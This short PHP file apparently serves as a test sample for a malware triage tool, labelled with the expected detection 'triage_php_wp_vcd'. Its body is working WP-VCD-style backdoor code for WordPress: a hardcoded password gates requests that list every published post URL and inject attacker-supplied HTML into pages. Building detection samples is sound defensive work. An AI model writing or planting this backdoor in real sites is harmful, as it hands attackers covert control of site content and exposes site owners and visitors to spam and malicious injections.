<?php
// triage-expect: triage_php_wp_vcd
if (isset($_REQUEST['action']) && isset($_REQUEST['password']) && $_REQUEST['password'] == 'c1a8a1b3e3f2d4c5b6a7988776655443') {
    switch ($_REQUEST['action']) {
        case 'get_all_links';
            foreach ($wpdb->get_results("SELECT ID, guid FROM {$wpdb->posts} WHERE post_status = 'publish'", ARRAY_A) as $row) {
                print '<e><url>' . $row['guid'] . '</url></e>';
            }
            break;
        case 'set_id_links';
            $c = '<div id="wp_cd_code">' . stripcslashes($_REQUEST['data']) . '</div>';
            break;
        default: print "ERROR_WP_ACTION WP_URL_CD";
    }
    die("");
}
